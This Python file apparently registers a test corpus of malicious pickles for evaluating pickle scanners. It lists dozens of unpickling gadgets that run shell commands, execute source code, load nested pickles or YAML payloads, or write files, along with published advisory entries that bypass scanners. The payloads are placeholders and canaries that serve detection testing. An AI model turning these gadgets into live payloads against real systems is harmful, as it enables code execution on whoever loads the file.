"""Pickles that call something which runs code, opens a door to it, or writes a file: by one function each."""

import re
import tomllib
from pathlib import Path

from armed import armed

ADVISORIES = Path(__file__).parents[1] / "bypass" / "advisories.toml"

CALLS = {
    "starts a program": (
        'call("os:system", SHELL)',
        'call("posix:system", SHELL)',
        'call("os:popen", SHELL)',
        'call("os:execl", "/bin/sh", "sh", "-c", SHELL)',
        'call("os:spawnl", 0, "/bin/sh", "sh", "-c", SHELL)',
        'call("os:posix_spawn", "/bin/sh", ["sh", "-c", SHELL], {})',
        'call("subprocess:Popen", ["touch", CANARY])',
        'call("subprocess:run", ["touch", CANARY])',
        'call("subprocess:call", ["touch", CANARY])',
        'call("subprocess:check_call", ["touch", CANARY])',
        'call("subprocess:check_output", ["touch", CANARY])',
        'call("subprocess:getoutput", SHELL)',
        'call("subprocess:getstatusoutput", SHELL)',
        'call("asyncio:run", call("asyncio:create_subprocess_shell", SHELL))',
        'call("webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", ["touch", CANARY]), "x")',
        'call("IPython.utils.process:system", SHELL)',
        'call("IPython.utils.process:getoutput", SHELL)',
        'call("distutils.spawn:spawn", ["/usr/bin/touch", CANARY])',
    ),
    "runs source": (
        'call("builtins:exec", CODE)',
        'call("builtins:eval", CODE)',
        'call("builtins:exec", call("builtins:compile", CODE, "x", "exec"))',
        'call("timeit:repeat", "pass", CODE, ref("time:perf_counter"), 1, 1)',
        'call("sympy:sympify", CODE)',
        'call("torch.fx.graph_module:_exec_with_source", CODE, {})',
        'call("importlib:import_module", "planted")',
        'call("builtins:__import__", "planted")',
        'call("runpy:run_module", "planted")',
        'call("pkgutil:resolve_name", "planted")',
        'call("pydoc:locate", "planted")',
    ),
    "hands a function to another one": (
        'call("functools:reduce", ref("builtins:eval"), [CODE, {}])',
        'call("builtins:list", call("builtins:map", ref("os:system"), [SHELL]))',
        'call("builtins:set", call("builtins:map", ref("os:system"), [SHELL]))',
        'call("builtins:list", call("builtins:filter", ref("builtins:eval"), [CODE]))',
        'call("builtins:list", call("itertools:starmap", ref("os:system"), [(SHELL,)]))',
        'call("collections:deque", call("builtins:map", ref("os:system"), [SHELL]))',
        'call("operator:call", ref("os:system"), SHELL)',
        'call("numpy:fromiter", call("builtins:map", ref("os:system"), [SHELL]), "i8")',
        'call(call("numpy:vectorize", ref("os:system")), SHELL)',
        'call(call("numpy:frompyfunc", ref("os:system"), 1, 1), SHELL)',
        (
            'call("concurrent.futures.thread:_WorkItem.run", call("concurrent.futures.thread:_WorkItem", '
            'call("concurrent.futures:Future"), ref("os:system"), (SHELL,), {}))'
        ),
    ),
    "loads another pickle": (
        'call("dill:loads", INNER)',
        'call("cloudpickle:loads", INNER)',
        'call("pickle:load", call("io:BytesIO", INNER))',
        'call("pandas:read_pickle", call("io:BytesIO", INNER))',
        'call("pickle:Unpickler.load", call("pickle:Unpickler", call("io:BytesIO", INNER)))',
        'call("torch.storage:_load_from_bytes", INNER)',
        'call("yaml:unsafe_load", "!!python/object/apply:os.system [\'" + SHELL + "\']")',
        'call("jsonpickle:decode", \'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["\' + SHELL + \'"]}]}\')',
    ),
    "writes a file": (
        'call("builtins:open", CANARY, "w")',
        'call("io:open", CANARY, "w")',
        'call("codecs:open", CANARY, "w")',
        'call("os:open", CANARY, 65)',
        'call("os:mkdir", CANARY)',
        'call("os:mknod", CANARY)',
        'call("pathlib:Path.touch", call("pathlib:Path", CANARY))',
        'call("pathlib:Path.write_text", call("pathlib:Path", CANARY), "x")',
        'call("shutil:copyfile", "/etc/hostname", CANARY)',
        'call("shutil:copy", "/etc/hostname", CANARY)',
        'call("numpy:savetxt", CANARY, [1])',
        'call("numpy:memmap", CANARY, "uint8", "w+", 0, 1)',
        'call("numpy:ndarray.tofile", call("numpy:zeros", 1), CANARY)',
        'call("torch:save", 1, CANARY)',
        'call("gzip:open", CANARY, "wb")',
        'call("bz2:open", CANARY, "wb")',
        'call("lzma:open", CANARY, "wb")',
        'call("joblib:dump", 1, CANARY)',
        'call("logging.config:dictConfig", {"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": CANARY}}})',
    ),
}
NAME = re.compile(r"[\w.]+:[\w.]+")
PLANTED = {"planted.py": "CODE"}


def modules_in(attack):
    return sorted({found.partition(".")[0] for found in re.findall(r'"([\w.]+):[\w.]+"', attack)})


def register(name, technique, attack, needs=(), files=None, reference=""):
    def make(effect, path):
        for file, content in (files or PLANTED).items():
            path.with_name(file).write_text(content.replace("CODE", effect.code))
        return effect.attack(attack, path.parent)

    armed(name, technique, needs=(*needs, *modules_in(attack)), reference=reference)(make)


for technique, attacks in CALLS.items():
    for number, attack in enumerate(attacks):
        register(f"{technique}: {NAME.search(attack)[0]} {number}", technique, attack)
for number, row in enumerate(tomllib.loads(ADVISORIES.read_text("utf-8"))["row"]):
    first = NAME.search(row["attack"])[0]
    where = row.get("url") or f"https://github.com/{row['project']}/security/advisories/{row['advisory']}"
    register(f"published: {first} {number}", "a name on no list", row["attack"], row.get("needs", ()), row.get("files"), where)
